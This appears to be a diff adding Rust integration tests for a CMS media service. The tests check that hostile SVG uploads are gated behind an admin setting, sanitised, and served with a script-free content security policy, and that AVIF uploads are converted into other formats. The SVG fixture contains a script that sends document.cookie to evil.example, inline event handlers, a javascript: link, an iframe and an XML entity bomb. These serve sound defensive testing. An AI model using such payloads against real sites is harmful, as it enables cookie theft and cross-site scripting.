@@ -1314,3 +1314,189 @@ async fn a_doctors_photo_from_the_library_is_resolved_for_visitors_and_shown_by_
         .body;
     assert!(detail.get("photo_image").is_none(), "{detail}");
 }
+
+#[tokio::test]
+async fn a_tenant_that_allows_svg_gets_it_sanitised_and_served_under_a_script_free_csp() {
+    let app = TestApp::spawn().await;
+    let editor = app.login(ALPHA_EDITOR, None).await.access;
+    let hostile = br#"<?xml version="1.0"?>
+<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="240" viewBox="0 0 120 60" onload="alert(1)">
+  <script>fetch('https://evil.example/'+document.cookie)</script>
+  <foreignObject width="10" height="10"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/"/></foreignObject>
+  <image href="https://evil.example/pixel.png" width="1" height="1"/>
+  <a xlink:href="javascript:alert(2)"><circle cx="30" cy="30" r="20" fill="teal"/></a>
+  <rect x="60" y="10" width="40" height="40" fill="navy" onmouseover="alert(3)"/>
+</svg>"#
+        .to_vec();
+
+    // Off by default, and only owners and admins turn it on.
+    app.upload(&editor, "logo.svg", hostile.clone(), &[("alt", "Logo")])
+        .await
+        .expect_problem(422);
+    let allow = json!({"allow_svg": true});
+    app.send(
+        reqwest::Method::PUT,
+        "/api/v1/media/quota",
+        Some(&editor),
+        Some(&allow),
+        &[],
+    )
+    .await
+    .expect_problem(403);
+    let admin = admin(&app).await;
+    let quota = app
+        .send(
+            reqwest::Method::PUT,
+            "/api/v1/media/quota",
+            Some(&admin),
+            Some(&allow),
+            &[],
+        )
+        .await
+        .expect(200)
+        .body;
+    assert_eq!(quota["allow_svg"], true);
+
+    // Not a well-formed SVG, or an entity bomb: refused, nothing written.
+    for broken in [
+        b"<svg xmlns='http://www.w3.org/2000/svg'><circle".to_vec(),
+        br#"<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "haha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><svg xmlns="http://www.w3.org/2000/svg"><text>&b;&b;&b;</text></svg>"#.to_vec(),
+    ] {
+        let reply = app.upload(&editor, "broken.svg", broken, &[]).await;
+        reply.expect_problem(422);
+    }
+    assert_eq!(app.count_rows("media"), 0);
+
+    let media = app
+        .upload_ready(&editor, "logo.svg", hostile.clone(), "Logo")
+        .await;
+    assert_eq!(media["kind"], "svg");
+    // width 240 with a 2:1 viewBox.
+    assert_eq!(
+        (media["width"].as_u64(), media["height"].as_u64()),
+        (Some(240), Some(120))
+    );
+    let files = renditions(&media);
+    assert_eq!(files.len(), 1, "{media}");
+    assert_eq!(files[0]["format"], "svg");
+    assert!(!has_avif(&media));
+
+    let url = files[0]["url"].as_str().unwrap();
+    let served = app.client.get(app.url(url)).send().await.unwrap();
+    assert_eq!(served.status(), 200);
+    let headers = served.headers().clone();
+    assert_eq!(headers["content-type"], "image/svg+xml");
+    assert_eq!(headers["x-content-type-options"], "nosniff");
+    let csp = headers["content-security-policy"].to_str().unwrap();
+    assert!(
+        csp.contains("default-src 'none'") && csp.contains("sandbox"),
+        "{csp}"
+    );
+    let text = served.text().await.unwrap();
+    for banned in [
+        "script",
+        "onload",
+        "onmouseover",
+        "foreignObject",
+        "iframe",
+        "evil.example",
+        "javascript:",
+    ] {
+        assert!(!text.contains(banned), "{banned} was served: {text}");
+    }
+    assert!(text.contains("<circle") && text.contains("<rect"), "{text}");
+
+    // The same upload again is the same media.
+    let again = app
+        .upload(&editor, "logo-again.svg", hostile, &[])
+        .await
+        .expect(200)
+        .body;
+    assert_eq!(again["id"], media["id"]);
+    assert_eq!(app.count_rows("media"), 1);
+
+    // In a block, delivery shows the vector file itself: no raster sources.
+    let id = media["id"].as_str().unwrap();
+    let (_, _, site) = page_showing(&app, &editor, "/svg-logo", json!({"media": id})).await;
+    let image = delivered_image(&app, &site, "/svg-logo").await;
+    assert!(image["src"].as_str().unwrap().ends_with(".svg"), "{image}");
+    assert_eq!(
+        (image["width"].as_u64(), image["height"].as_u64()),
+        (Some(240), Some(120))
+    );
+    assert_eq!(image["sources"], json!({"avif": [], "webp": []}));
+}
+
+/// An AVIF of a gradient, encoded by rav1e through the imaging crate.
+fn gradient_avif(width: u32, height: u32) -> Vec<u8> {
+    let decoded = cms_imaging::decode(&gradient_jpeg(width, height, 90), u64::MAX).unwrap();
+    let plan = cms_imaging::Plan {
+        widths: vec![width],
+        fills: vec![],
+        crop: None,
+        focal: cms_shared::media::FocalPoint { x: 0.5, y: 0.5 },
+        webp_quality: 80.0,
+        jpeg_quality: 80,
+        avif_quality: 70.0,
+        avif_speed: 10,
+        deadline: std::time::Instant::now() + Duration::from_secs(60),
+        deadline_secs: 60,
+    };
+    cms_imaging::render(&decoded, &plan, &[cms_imaging::Format::Avif])
+        .unwrap()
+        .remove(0)
+        .bytes
+}
+
+#[tokio::test]
+async fn an_avif_upload_is_decoded_into_webp_avif_and_jpeg_renditions() {
+    let app = TestApp::spawn().await;
+    let editor = app.login(ALPHA_EDITOR, None).await.access;
+    let media = app
+        .upload_ready(&editor, "photo.avif", gradient_avif(700, 400), "A gradient")
+        .await;
+    assert_eq!(media["kind"], "avif");
+    assert_eq!(media["status"], "ready", "{media}");
+    let plain: Vec<(String, u64)> = renditions(&media)
+        .iter()
+        .filter(|r| r["fill"].is_null())
+        .map(|r| {
+            (
+                r["format"].as_str().unwrap().to_owned(),
+                r["width"].as_u64().unwrap(),
+            )
+        })
+        .collect();
+    for width in [320, 640, 700] {
+        assert!(plain.contains(&("webp".into(), width)), "{plain:?}");
+        assert!(plain.contains(&("jpeg".into(), width)), "{plain:?}");
+    }
+    let webp = renditions(&media)
+        .into_iter()
+        .find(|r| r["format"] == "webp" && r["width"] == 640)
+        .unwrap();
+    let bytes = app
+        .client
+        .get(app.url(webp["url"].as_str().unwrap()))
+        .send()
+        .await
+        .unwrap()
+        .bytes()
+        .await
+        .unwrap();
+    let seen = pillow_inspect(&bytes);
+    assert_eq!(
+        (
+            seen["format"].as_str(),
+            seen["width"].as_u64(),
+            seen["height"].as_u64()
+        ),
+        (Some("WEBP"), Some(640), webp["height"].as_u64())
+    );
+    let done = app
+        .wait_media(&editor, media["id"].as_str().unwrap(), has_avif)
+        .await;
+    assert!(renditions(&done)
+        .iter()
+        .any(|r| r["format"] == "avif" && r["width"] == 700));
+}
